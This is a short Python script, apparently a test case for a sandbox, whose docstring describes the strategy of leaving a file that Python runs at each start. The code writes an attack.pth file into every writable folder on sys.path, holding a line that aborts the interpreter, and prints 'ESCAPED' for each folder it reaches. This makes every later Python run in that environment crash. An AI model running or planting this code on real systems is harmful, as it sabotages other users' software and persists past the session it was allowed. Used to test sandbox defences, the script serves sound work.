"""Strategy: leave a file that Python runs at each start.

Surface: next run
Expect: accepted
"""

import sys

for folder in sys.path:
    try:
        with open(f"{folder}/attack.pth", "w") as file:
            file.write("import os; os.abort()")
        print("ESCAPED", folder)
    except OSError:
        pass
